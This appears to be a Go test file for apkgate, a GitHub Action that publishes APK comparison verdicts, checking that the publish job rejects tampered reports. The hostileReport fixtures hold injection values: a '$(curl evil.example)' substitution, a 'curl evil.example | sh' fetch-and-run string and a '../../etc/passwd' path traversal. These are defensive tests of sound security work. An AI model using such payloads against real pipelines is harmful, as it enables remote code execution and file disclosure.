package action_test

import (
	"os"
	"strings"
	"testing"

	"github.com/apkgate/apkgate/usecase/exit"
	"github.com/apkgate/apkgate/usecase/githubactions/githubtest"
)

// One job measures with a token that may only read, and another one shows its verdict: the comment,
// and the check run with each finding at its scenario's line.
func TestPublish(t *testing.T) {
	w := newWorkspace(t)
	w.build("demo-worse")
	w.env["INPUT_BASE_APK"] = "demo-good.apk"
	w.ReadOnly(true)
	first := w.apkgate("action", "run", "--comment=false", "--check-run=false", "--why", "0")
	w.want(first, exit.StatusRegression)
	if strings.Contains(first.Stdout, "was not able to") {
		t.Errorf("it tries to write:\n%s", first.Stdout)
	}
	w.ReadOnly(false)
	if err := os.Remove("apkgate.yml"); err != nil { // nothing is checked out
		t.Fatal(err)
	}
	before := w.read("summary")
	w.want(w.apkgate("action", "publish"), exit.StatusPass)
	checks := w.Checks()
	if len(checks) != 1 || checks[0].Name != "apkgate" || checks[0].Conclusion != "failure" || checks[0].HeadSHA != headSHA {
		t.Fatalf("the check runs are %+v", checks)
	}
	if a := checks[0].Annotations; len(a) == 0 || a[0].Path != "apkgate.yml" || a[0].Line < 5 {
		t.Errorf("the annotations are %+v, want one at the scenario", a)
	}
	if all := w.Comments(7); len(all) != 1 || !strings.Contains(all[0].Body, "❌ Regression") || strings.Contains(all[0].Body, "fork") {
		t.Errorf("the comments are %+v", all)
	}
	// What the second job shows is what the first one would have shown, to the letter, and the day of
	// the commit, which GitHub knows and this checkout does not.
	const base, command = "commit bbbbbbbbbb", "reproduce: with both builds and a device: `apkgate compare --base demo-good.apk --head demo-worse.apk` · "
	contains(t, "the first job's summary", before, base, command)
	if shown := w.Comments(7)[0].Body; !strings.Contains(shown, strings.TrimSpace(strings.Replace(before, base, base+" of 2026-03-01", 1))) {
		t.Errorf("the comment is\n%s\nand the first job's summary\n%s", shown, before)
	}
	if w.read("summary") != before {
		t.Error("the job summary repeats what that of the first job says")
	}

	w.hostileReport()
	w.write("apkgate-report/evil.sh", "#!/bin/sh")
	w.want(w.apkgate("action", "publish"), exit.StatusUsage)

	if err := os.RemoveAll("apkgate-report"); err != nil {
		t.Fatal(err)
	}
	w.want(w.apkgate("action", "publish"), exit.StatusPass)
	checks = w.Checks()
	if c := checks[len(checks)-1]; c.Conclusion != "failure" || c.Title != "No verdict" {
		t.Errorf("without a report the check run is %+v", c)
	}
	for _, event := range []string{"workflow_run", "pull_request_target", "issue_comment"} {
		w.env["GITHUB_EVENT_NAME"] = event
		r := w.apkgate("action", "publish")
		w.want(r, exit.StatusUsage)
		contains(t, "the error", r.Stderr, "action publish on the event "+event)
	}
}

// hostileReport publishes reports whose files the pull request's code has changed: they choose no
// annotation outside of the repository, no command, and no day for a commit that is not on the base
// branch.
func (w *workspace) hostileReport() {
	t, verdict, meta := w.t, w.read("apkgate-report/verdict.json"), w.read("apkgate-report/meta.json")
	published := func() string {
		w.env["GITHUB_RUN_ID"] += "0"
		w.want(w.apkgate("action", "publish"), exit.StatusPass)
		return w.Comments(7)[0].Body
	}
	w.write("apkgate-report/meta.json", `{"format":"apkgate.artifact/1","base":"not a commit","places":{"read-mail":{"path":"../../etc/passwd","line":3}},
		"builds":{"base":"$(curl evil.example).apk","head":"../../x.apk","scenarios":7}}`)
	w.write("apkgate-report/verdict.json", strings.ReplaceAll(verdict, `"read-mail"`, `"x\u0060; curl evil.example | sh"`))
	body := published()
	contains(t, "the comment", body, "reproduce: with this build and a device: `apkgate run` ·")
	if c := w.Checks()[1]; len(c.Annotations) != 0 {
		t.Errorf("annotations are outside of the repository: %+v", c.Annotations)
	}
	if strings.Contains(body, "curl evil.example)") || strings.Contains(body, "x.apk") {
		t.Errorf("the report chooses a command:\n%s", body)
	}
	theirs := strings.Repeat("e", 40) // a commit of a fork, which GitHub finds by its id as well
	w.SetCommit(theirs, githubtest.Commit{})
	w.write("apkgate-report/meta.json", meta)
	for _, commit := range []string{theirs, "main", strings.Repeat("b", 12)} {
		w.write("apkgate-report/verdict.json", strings.ReplaceAll(verdict, baseSHA, commit))
		if body := published(); strings.Contains(body, " of 2026-03-01") || strings.Contains(body, " of 0001-") {
			t.Errorf("the base build's commit %s has a day:\n%s", commit, body)
		}
	}
}
